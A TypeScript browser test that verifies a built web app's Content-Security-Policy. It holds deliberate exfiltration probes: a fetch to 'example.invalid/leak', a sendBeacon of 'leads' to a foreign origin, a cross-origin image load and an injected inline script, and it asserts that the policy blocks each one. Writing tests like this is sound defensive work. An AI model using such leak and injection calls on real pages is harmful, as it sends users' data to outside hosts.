import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { serveStatic } from '../support/staticServer';
import { openApp, ROOT, useBuiltApp } from './harness';

/**
 * "Nothing leaves the browser" as the browser enforces it: whatever code runs in the page (a bug, a
 * dependency, an injected script) cannot reach another origin. A second server on another port is
 * the foreign origin: CORS would let the request reach it and only hide the answer; the policy must
 * stop the request before it is sent, so that server must see nothing.
 */
describe('the Content-Security-Policy of the built app', () => {
  const app = useBuiltApp();

  it('arrives as a header and a meta tag, and blocks fetch, beacon, image and inline script before anything reaches another origin', async () => {
    const header = (await fetch(`${app.server.origin}/`)).headers.get('content-security-policy') ?? '';
    const foreign = await serveStatic(path.join(ROOT, 'dist'));
    try {
      const { page, errors } = await openApp(app.browser, app.server.origin);
      const meta = (await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content')) ?? '';
      for (const policy of [header, meta]) {
        expect(policy).toContain("connect-src 'self'");
        expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
        // The page itself never evals (only duckdb-wasm's workers, under their own header, may).
        expect(policy).not.toMatch(/\s'unsafe-eval'/);
      }

      const outcome = await page.evaluate(async (target) => {
        const fetched = await fetch(`${target}/index.html`).then(
          () => 'answered',
          (e: Error) => e.name,
        );
        const unresolvable = await fetch('http://example.invalid/leak?x=1').then(
          () => 'answered',
          (e: Error) => e.name,
        );
        navigator.sendBeacon(`${target}/beacon`, 'leads');
        const image = await new Promise<string>((resolve) => {
          const img = new Image();
          img.onload = () => resolve('loaded');
          img.onerror = () => resolve('blocked');
          img.src = `${target}/favicon.svg`;
        });
        const script = document.createElement('script');
        script.textContent = 'window.__injected = true';
        document.head.append(script);
        return { fetched, unresolvable, image, injected: (window as unknown as { __injected?: boolean }).__injected ?? false };
      }, foreign.origin);
      expect(outcome).toEqual({ fetched: 'TypeError', unresolvable: 'TypeError', image: 'blocked', injected: false });

      // The app still works under the policy: the sample dashboard loaded and shows its figures.
      expect(await page.getAttribute('[data-phase]', 'data-phase')).toBe('ready');
      // Reports travel after the page's events: wait for the four blocks (fetch twice, beacon, image) and the script.
      await expect.poll(() => app.server.cspViolations.length, { timeout: 10_000 }).toBeGreaterThanOrEqual(5);
      expect(foreign.requests).toEqual([]);
      const blocked = app.server.cspViolations.splice(0);
      expect(blocked.filter((v) => v.startsWith('connect-src')).map((v) => v.split(' ')[1])).toEqual(
        expect.arrayContaining([`${foreign.origin}/index.html`, 'http://example.invalid/leak?x=1', `${foreign.origin}/beacon`]),
      );
      expect(blocked.some((v) => v.startsWith(`img-src ${foreign.origin}/favicon.svg`))).toBe(true);
      expect(blocked.some((v) => v.startsWith('script-src-elem inline'))).toBe(true);
      // Each block is logged to the console too; nothing else went wrong.
      expect(errors.filter((e) => !/Content Security Policy/.test(e))).toEqual([]);
      await page.close();
    } finally {
      await foreign.close();
    }
  });
});
